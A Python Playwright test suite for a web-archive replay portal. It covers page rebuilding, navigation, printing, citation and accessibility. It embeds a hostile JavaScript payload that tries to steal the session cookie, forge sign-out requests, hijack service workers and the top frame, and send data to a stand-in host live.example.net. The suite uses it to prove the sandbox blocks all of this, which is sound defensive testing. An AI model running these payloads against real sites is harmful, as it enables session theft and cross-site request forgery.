"""Replay in a real browser: a page is rebuilt, followed and stepped through in time; hostile pages achieve
nothing; nothing leaks.

All traffic of the browser to anything but loopback goes to a proxy that records and refuses it.
"""

from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from leaks import Leaks, launched
from museum import EDITIONS, PASSWORD, SITE, Served
from playwright.sync_api import Browser, BrowserContext, Error, Page, expect

pytestmark = pytest.mark.browser
AXE = Path(__file__).parent / "vendor" / "axe.min.js"


@pytest.fixture(scope="module")
def leaks() -> Iterator[Leaks]:
    with Leaks.listening() as proxy:
        yield proxy


@pytest.fixture(scope="module")
def browser(leaks: Leaks) -> Iterator[Browser]:
    with launched(leaks) as made:
        yield made


@contextmanager
def new_page(browser: Browser, **given) -> Iterator[Page]:
    context: BrowserContext = browser.new_context(viewport={"width": 1280, "height": 800}, **given)
    try:
        yield context.new_page()
    finally:
        context.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with new_page(browser) as made:
        yield made


def open_edition(page: Page, served: Served, number: int):
    page.goto(f"{served.portal}/all/{EDITIONS[number]}/{SITE}/")
    inside = page.frame_locator("#frame")
    expect(inside.locator("#fetched")).to_have_text(f"fetched {EDITIONS[number]}", timeout=20_000)
    return inside


def test_a_page_is_rebuilt_with_picture_style_and_fetched_data(page: Page, served: Served, leaks: Leaks):
    inside = open_edition(page, served, 1)
    expect(inside.locator("h1")).to_have_text("Museum of clocks, edition 2")
    assert inside.locator("h1").evaluate("element => getComputedStyle(element).color") == "rgb(2, 100, 50)"
    assert inside.locator("#picture").evaluate("picture => picture.naturalWidth") == 2
    expect(page.locator(".page-title")).to_have_text("Museum of clocks 2012")
    assert not [line for line in leaks.asked if "example" in line]


def test_the_banner_follows_links_inside_the_page_and_the_way_back(page: Page, served: Served):
    inside = open_edition(page, served, 1)
    inside.locator("#news").click()
    expect(page.locator(".page-title")).to_have_text("News of 2012")
    expect(page.locator(".page-address")).to_have_text(f"{SITE}/news.html")
    assert page.url == f"{served.frame}/all/{EDITIONS[1]}/{SITE}/news.html"
    expect(page).to_have_title("News of 2012 · 1 June 2012, 12:00 UTC · Archive of Clocks")
    page.locator(".step.next").click()
    expect(page.locator(".when strong")).to_have_text("1 June 2012, 18:00 UTC")
    page.go_back()
    page.go_back()
    expect(page.locator(".page-title")).to_have_text("Museum of clocks 2012")


def test_the_way_back_leads_to_the_search_from_every_page_opened_since(page: Page, served: Served):
    page.goto(f"{served.portal}/search?q=museum&sort=oldest")
    page.locator(".hits h2 a").first.click()
    inside = page.frame_locator("#frame")
    expect(inside.locator("#news")).to_be_visible(timeout=20_000)
    assert "#" not in page.url
    inside.locator("#news").click()
    expect(page.locator(".page-address")).to_have_text(f"{SITE}/news.html", timeout=20_000)
    page.get_by_role("link", name="Back to search").click()
    expect(page).to_have_url(f"{served.portal}/search?q=museum&sort=oldest")
    page.goto(f"{served.frame}/all/{EDITIONS[1]}/{SITE}/#search=javascript%3Aalert(1)")
    assert page.locator("a[data-back]").get_attribute("href") == f"{served.portal}/search"


def test_stepping_in_time_by_links_and_by_keyboard(page: Page, served: Served):
    inside = open_edition(page, served, 1)
    page.get_by_role("link", name="Latest").click()
    expect(inside.locator("h1")).to_have_text("Museum of clocks, edition 4")
    expect(page.locator(".step.next.off")).to_have_count(1)
    page.get_by_role("link", name="First").click()
    expect(inside.locator("h1")).to_have_text("Museum of clocks, edition 1")
    handle = page.get_by_role("slider", name="Version")
    handle.focus()
    page.keyboard.press("ArrowRight")
    expect(inside.locator("h1")).to_have_text("Museum of clocks, edition 2")
    expect(handle).to_be_focused()
    page.keyboard.press("End")
    expect(inside.locator("h1")).to_have_text("Museum of clocks, edition 4")


def test_a_page_prints_itself_with_one_line_about_its_source(page: Page, served: Served):
    inside = open_edition(page, served, 1)
    source = f"{SITE}/, archived on 1 June 2012, 12:00 UTC by Archive of Clocks: {served.portal}/all/"
    inside.locator("body").evaluate("() => { window.print = () => document.body.dataset.printed = 'yes' }")
    page.get_by_role("button", name="Print").click()
    expect(inside.locator("body[data-printed]")).to_have_count(1)
    line = inside.locator("#webdepot-source")
    expect(line).to_contain_text(source)
    expect(line).to_be_hidden()
    # The browser's own command prints the frame: the line, no bars, and the page in its full height.
    page.emulate_media(media="print")
    expect(line).to_be_visible()
    expect(page.locator(".banner .source")).to_contain_text(source)
    expect(page.locator(".banner .time")).to_be_hidden()
    assert page.locator("#frame").evaluate("frame => frame.style.getPropertyValue('--page-height')")


def test_a_link_to_what_is_not_kept_says_so_in_page_and_banner(page: Page, served: Served):
    inside = open_edition(page, served, 1)
    inside.locator("#gone").click()
    expect(inside.locator("h1")).to_have_text("Not in the archive")
    expect(page.locator(".page-title")).to_have_text("This address is not in the archive")
    assert page.url == f"{served.frame}/all/{EDITIONS[1]}/{SITE}/gone.html"


def test_a_link_to_another_window_stays_in_the_frame(page: Page, served: Served, leaks: Leaks):
    inside = open_edition(page, served, 1)
    inside.locator("#outside").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("This address is not in the archive")
    assert page.url == f"{served.frame}/all/{EDITIONS[1]}/http://outside.example.net/"
    assert len(page.context.pages) == 1
    assert not [line for line in leaks.asked if "outside" in line]


def test_a_document_opens_in_the_browsers_own_viewer(page: Page, served: Served):
    inside = open_edition(page, served, 3)
    inside.locator("#leaflet").click()
    expect(page.locator(".page-title")).to_have_text("leaflet.pdf")
    expect(page.locator("#frame")).not_to_have_attribute("sandbox", "")
    assert page.url == f"{served.frame}/all/{EDITIONS[3]}/{SITE}/leaflet.pdf"


def test_the_language_of_the_portal_is_the_frames_too(page: Page, served: Served):
    page.goto(f"{served.portal}/")
    page.get_by_role("link", name="Nederlands").click()
    open_edition(page, served, 1)
    expect(page.get_by_role("link", name="Alle versies")).to_be_visible()
    expect(page.locator(".when")).to_contain_text("1 juni 2012")


def test_without_scripts_pages_work_and_replay_says_why_it_does_not(browser: Browser, served: Served):
    with new_page(browser, java_script_enabled=False) as page:
        page.goto(f"{served.portal}/")
        page.get_by_role("searchbox").fill("clock")
        page.get_by_role("button", name="Search").click()
        page.get_by_role("link", name="Museum of clocks").first.click()
        expect(page.locator(".no-script")).to_be_visible()
        page.get_by_role("link", name="All versions").click()
        page.get_by_role("link", name="2012, 2 captures").click()
        page.get_by_role("link", name="1 June 2012, 18:00 UTC", exact=True).click()
        expect(page.locator(".no-script a")).to_have_attribute(
            "href", f"{served.replay}/all/{EDITIONS[2]}id_/{SITE}/"
        )
        page.get_by_role("link", name="Earlier").click()
        expect(page.locator(".when")).to_contain_text("1 June 2012, 12:00")


HOSTILE = """
async ({ portal, stamp, site, names }) => {
  // The most that an archived script could do: the rewriting script guards the usual ways, so take the
  // native functions of a fresh frame.
  const live = "http://live.example.net/";
  const frame = document.createElement("iframe");
  document.documentElement.append(frame);
  const bare = frame.contentWindow;
  const page = bare.document;
  const root = page.documentElement;
  const register = Object.getPrototypeOf(navigator.serviceWorker).register;
  const event = (made) => new Promise((yes, no) => {
    made.onopen = made.onload = () => yes("came");
    made.onerror = () => no(new Error("nothing"));
  });
  const image = () => {
    const made = new bare.Image();
    const came = event(made);
    made.src = live + "image.png";
    return came;
  };
  const form = () => {
    const made = page.createElement("form");
    made.action = live + "form";
    root.append(made);
    bare.HTMLFormElement.prototype.submit.call(made);
  };
  const insert = (html) => root.insertAdjacentHTML("beforeend", html);
  const LEAVING = ["portal's form", "form", "popup"];
  const attempts = {
    "cookie": () => Object.getOwnPropertyDescriptor(bare.Document.prototype, "cookie").get.call(document),
    "frame's document": () => Object.getOwnPropertyDescriptor(bare, "parent").get.call(window).document.title,
    "portal page": () => bare.fetch(portal + "/status", { credentials: "include" })
      .then((answer) => answer.text()),
    "portal form": () => bare.fetch(
      portal + "/sign-out", { method: "POST", credentials: "include", mode: "no-cors" }),
    "portal in a frame": async () => {
      insert(`<iframe id="portal" src="${portal}/status"></iframe>`);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return page.getElementById("portal").contentWindow.document.title;
    },
    "portal's form": async () => {
      insert(`<iframe name="told"></iframe>
        <form id="out" method="post" target="told" action="${portal}/sign-out"></form>`);
      bare.HTMLFormElement.prototype.submit.call(page.getElementById("out"));
      await new Promise((resolve) => setTimeout(resolve, 300));
      throw new Error("nothing");
    },
    "archived worker": () => register.call(navigator.serviceWorker, `/all/${stamp}id_/${site}/app.js`),
    "portal worker": () => register.call(navigator.serviceWorker, portal + "/-/static/frame.js"),
    "fetch": () => bare.fetch(live + "fetch", { mode: "no-cors" }),
    "socket": () => event(new bare.WebSocket("ws://live.example.net/socket")),
    "events": () => event(new bare.EventSource(live + "events")),
    "image": image,
    "beacon": () => bare.navigator.sendBeacon(live + "beacon", "x"),
    "form": form,
    "popup": () => bare.eval("open('http://live.example.net/popup')"),
    "prefetch": () => insert(`<link rel="prefetch" href="${live}prefetch">
      <link rel="stylesheet" href="${live}sheet.css">`),
    "style": () => insert(`<style>@import url(${live}style.css);
      html { background: url(${live}back.png) }</style>`),
    "frame": () => insert(`<iframe src="${live}frame"></iframe><object data="${live}object"></object>`),
    "refresh": () => insert(
      `<iframe srcdoc="<meta http-equiv=refresh content='0; url=${live}refresh'>"></iframe>`),
    "media": () => insert(`<video src="${live}video.mp4" autoplay></video>`),
    "teach the worker": () => navigator.serviceWorker.controller.postMessage({
      msg_type: "addColl", name: "evil", type: "live", file: { sourceUrl: "proxy:" },
      extraConfig: { prefix: live, isLive: true },
    }),
    "through the worker": async () => {
      for (let tries = 0; tries < 20; tries += 1) {
        const answer = await bare.fetch(`/evil/${stamp}mp_/${live}through-worker`);
        if (answer.ok) return "came";
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      throw new Error("nothing");
    },
  };
  const told = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    if (LEAVING.includes(name) !== names.includes(name)) continue;
    if (names.length && !names.includes(name)) continue;
    try { told[name] = String(await attempt()); } catch (error) { told[name] = "refused"; }
  }
  return told;
}
"""


def test_a_hostile_page_reaches_neither_the_reader_nor_the_portal_nor_the_live_web(
    page: Page, served: Served, leaks: Leaks
):
    page.goto(f"{served.portal}/sign-in?to=/status")
    page.get_by_label("Name").fill("administrator")
    page.get_by_label("Password").fill(PASSWORD)
    page.locator("main button").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Archive status")
    open_edition(page, served, 1)
    archived = page.frames[1]
    assert archived.url.startswith(f"{served.pages(SITE)}/all/{EDITIONS[1]}mp_/")
    given = {"portal": served.portal, "stamp": EDITIONS[1], "site": SITE, "names": []}
    told = archived.evaluate(HOSTILE, given)
    assert "session" not in told["cookie"]
    # The other attempts are turned into requests to the archive or blocked; the proxy below shows whether one
    # came through.
    for attempt in (
        "frame's document",
        "portal page",
        "portal form",
        "portal in a frame",
        "archived worker",
        "portal worker",
        "through the worker",
    ):
        assert told[attempt] == "refused", f"{attempt}: {told[attempt]}"
    archived.evaluate(
        "() => { try { window['to' + 'p']['loca' + 'tion'] = 'http://live.example.net/top'; } "
        "catch (error) {} }"
    )
    assert page.url.startswith(served.frame), "the top frame was moved"
    for attempt in ("portal's form", "form", "popup"):  # the frame may follow these, in the archive
        open_edition(page, served, 1)
        with suppress(Error):
            page.frames[1].evaluate(HOSTILE, given | {"names": [attempt]})
        page.wait_for_timeout(300)
        assert page.url.startswith(served.frame), attempt
    assert len(page.context.pages) == 1
    assert not [cookie for cookie in page.context.cookies(served.pages(SITE)) if cookie["name"] == "session"]
    page.goto(f"{served.portal}/status")
    expect(page.get_by_role("heading", level=1)).to_have_text("Archive status")
    assert not [line for line in leaks.asked if "live.example.net" in line], leaks.asked


def test_the_banner_counts_what_was_blocked(page: Page, served: Served, leaks: Leaks):
    open_edition(page, served, 1)
    page.frames[1].evaluate(
        """() => {
          const sheet = new CSSStyleSheet();
          sheet.replaceSync("body { background: url(http://live.example.net/sheet.png) }");
          document.adoptedStyleSheets = [sheet];
        }"""
    )
    expect(page.locator(".blocked")).to_have_text("1 request to the live web blocked")
    assert not [line for line in leaks.asked if "live.example.net" in line], leaks.asked


def test_the_banner_warns_of_parts_from_another_time(page: Page, served: Served):
    page.goto(f"{served.portal}/all/{EDITIONS[1]}/http://mixed.example/")
    expect(page.locator(".drift.far summary")).to_have_text(
        "1 part of this page was captured at another time, up to 7 years apart"
    )
    page.locator(".drift summary").click()
    expect(page.locator(".drift li")).to_have_text(
        "11 September 2019 at 08:00 UTC http://mixed.example/late.png"
    )
    open_edition(page, served, 1)
    expect(page.locator(".drift")).to_be_hidden()


def test_the_citation_is_copied_by_a_click(browser: Browser, served: Served):
    with new_page(browser, permissions=["clipboard-read", "clipboard-write"]) as page:
        open_edition(page, served, 1)
        page.get_by_text("Cite and share").click()
        page.get_by_label("Link to this version").click()
        expect(page.locator(".sheet label[data-done]")).to_have_attribute("data-done", "Copied")
        assert page.evaluate("navigator.clipboard.readText()") == f"{served.portal}/all/{EDITIONS[1]}/{SITE}/"
        page.keyboard.press("Escape")
        expect(page.locator(".cite .sheet")).to_be_hidden()


def test_two_versions_are_shown_side_by_side(page: Page, served: Served, leaks: Leaks):
    page.goto(f"{served.portal}/compare?url={SITE}/&at={EDITIONS[1]}&with={EDITIONS[3]}")
    for number, edition in ((0, 2), (1, 4)):
        expect(page.frame_locator(".sides iframe").nth(number).locator("h1")).to_have_text(
            f"Museum of clocks, edition {edition}", timeout=20_000
        )
    expect(page.locator(".diff del")).to_have_text(["2"])
    expect(page.locator(".diff ins")).to_have_text(["4"])
    assert page.url.startswith(served.frame)
    assert not [line for line in leaks.asked if "example" in line]


def test_a_page_that_sends_its_own_frame_to_the_live_web_is_held(page: Page, served: Served, leaks: Leaks):
    open_edition(page, served, 1)
    page.frames[1].evaluate(
        """() => {
          const frame = document.createElement("iframe");
          document.documentElement.append(frame);
          frame.contentWindow.eval("parent['loca' + 'tion'] = 'http://live.example.net/self'");
        }"""
    )
    page.wait_for_timeout(500)
    assert page.url.startswith(served.frame)
    assert not [line for line in leaks.asked if "live.example.net" in line], leaks.asked


@pytest.mark.skipif(not AXE.exists(), reason="python scripts/vendor.py --tests fetches axe")
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_keeps_anybody_out(browser: Browser, served: Served, scheme):
    paths = [
        "/",
        "/search?q=clock",
        "/search?q=typ:x",
        f"/all/2012*/{SITE}/",
        "/about",
        "/help",
        "/sign-in",
        f"/all/2012/{SITE}/nowhere",
    ]
    paths += ["/versions?url=*.example.org", f"/museums/2012*/{SITE}/", f"/compare?url={SITE}/"]
    paths += [f"/evidence?url={SITE}/", "/developers", "/-/go?url=example.org&date=never"]
    with new_page(browser, color_scheme=scheme, bypass_csp=True) as page:
        for address in [
            *(served.portal + path for path in paths),
            f"{served.frame}/all/{EDITIONS[1]}/{SITE}/",
        ]:
            page.goto(address)
            page.add_script_tag(path=AXE)
            found = page.evaluate("axe.run(document, { iframes: false, resultTypes: ['violations'] })")
            faults = [(each["id"], each["nodes"][0]["html"]) for each in found["violations"]]
            assert faults == [], address


def test_every_page_fits_a_phone(browser: Browser, served: Served):
    with new_page(browser) as page:
        page.set_viewport_size({"width": 360, "height": 700})
        paths = (
            "/",
            "/search?q=clock",
            f"/all/*/{SITE}/",
            f"/museums/*/{SITE}/",
            "/versions?url=*.example.org",
            f"/compare?url={SITE}/",
            f"/evidence?url={SITE}/",
            "/developers",
        )
        for path in (*paths, "/about", "/help", "/sign-in", "/nothing"):
            page.goto(served.portal + path)
            assert page.evaluate("document.documentElement.scrollWidth") <= 360, path
